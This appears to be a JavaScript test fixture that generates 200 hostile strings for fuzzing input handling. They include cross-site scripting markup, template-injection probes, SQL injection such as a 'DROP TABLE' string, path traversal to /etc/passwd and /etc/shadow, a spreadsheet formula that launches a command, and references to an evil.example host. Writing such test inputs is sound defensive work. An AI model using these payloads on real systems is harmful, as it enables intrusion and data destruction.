// Two hundred names that try to be something else: markup, handlers, templates, queries, paths, directions, controls.

const MARKUP = [
  "<script>window.pwned=1</script>", "<img src=x onerror=window.pwned=1>", "<svg onload=window.pwned=1>", "\"><script>window.pwned=1</script>", "'><img src=x onerror=window.pwned=1>",
  "<iframe srcdoc='<script>parent.pwned=1</script>'>", "<body onload=window.pwned=1>", "<a href=\"javascript:window.pwned=1\">x</a>", "<details open ontoggle=window.pwned=1>", "<style>*{display:none}</style>",
  "</title><script>window.pwned=1</script>", "</textarea><script>window.pwned=1</script>", "<!--<script>window.pwned=1</script>-->", "<math><mtext></mtext><script>window.pwned=1</script></math>", "<input autofocus onfocus=window.pwned=1>",
  "<marquee onstart=window.pwned=1>", "<video><source onerror=window.pwned=1></video>", "<object data=\"data:text/html,<script>parent.pwned=1</script>\">", "<form action=//evil.example><button>x</button></form>", "<base href=//evil.example>",
  "<link rel=stylesheet href=//evil.example/x.css>", "<meta http-equiv=refresh content=\"0;url=//evil.example\">", "&lt;script&gt;window.pwned=1&lt;/script&gt;", "<scr<script>ipt>window.pwned=1</scr</script>ipt>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
];
const TEMPLATES = ["{{constructor.constructor('window.pwned=1')()}}", "${window.pwned=1}", "<%= window.pwned=1 %>", "#{7*7}", "{{7*7}}", "[[${7*7}]]", "{%debug%}", "*{7*7}", "@(7*7)", "__proto__"];
const QUERIES = ["' OR '1'='1", "'; DROP TABLE requests;--", "\" OR \"\"=\"", "1; SELECT pg_sleep(9)", "admin'--", "') UNION SELECT NULL--", "%' AND 1=0 --", "\\'; --", "0x27206f72", "`id`"];
const PATHS = ["../../../../etc/passwd", "..%2f..%2fetc%2fpasswd", "..\\..\\windows\\win.ini", "/etc/shadow", "file:///etc/passwd", "C:\\nul", "%00", "....//....//etc", "%252e%252e%252f", "//evil.example/x"];
const ODD = [
  "\u202egnp.exe", "abc\u202ecba", "\u2066isolated\u2069", "\u200bzero\u200bwidth", "\ufeffmark", "a\u0000b", "bell\u0007", "escape\u001b[31mred", "carriage\rreturn", "back\u0008space",
  "tab\there", "line\u2028separator", "del\u007f", "c1\u0085next", "Ω≈ç√∫˜µ", "𝕿𝖗𝖎𝖒", "👩‍👩‍👧‍👦", "ẞtraße", "İstanbul", "الرابط", "עברית", "日本語", "z̸̡̛a̸l̷g̵o̶", "a".repeat(180), "constructor", "hasOwnProperty", "toString", "null", "undefined", "NaN", "true", "-1", "1e999", "[object Object]", "CON", "=cmd|' /C calc'!A0",
];

export function hostile() {
  const seeds = [...MARKUP, ...TEMPLATES, ...QUERIES, ...PATHS, ...ODD];
  const found = [...seeds];
  for (let round = 1; found.length < 200; round += 1) for (const seed of seeds) if (found.length < 200) found.push(`${seed}·${round}`);
  return found;
}
